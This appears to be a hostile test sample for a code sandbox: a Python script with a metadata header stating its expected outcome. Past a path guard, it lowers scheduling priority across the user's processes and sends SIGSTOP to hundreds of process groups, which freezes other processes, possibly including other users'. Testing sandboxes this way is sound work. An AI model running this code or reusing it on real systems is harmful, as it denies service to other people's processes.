# /// hostile
# attack = "All processes of its user are slowed and stopped, among which others' may be where the server is not root."
# reason = "exited"
# contains = "end"
# beside = "patient.py"
# ///
if __file__ != "/box/main.py": raise SystemExit("runs in the sandbox only")
import os, signal

for kind in (os.PRIO_USER, os.PRIO_PGRP, os.PRIO_PROCESS):
    for who in (0, 1, 65534):
        try:
            os.setpriority(kind, who, 19)
        except OSError:
            pass
for pid in (1, *range(3, 20_000)):
    try:
        os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
        print("reached", pid)
    except OSError:
        pass
for group in (1, *range(3, 5_000)):
    try:
        os.killpg(group, signal.SIGSTOP)
        print("ESCAPED", group)
    except OSError:
        pass
print("end")
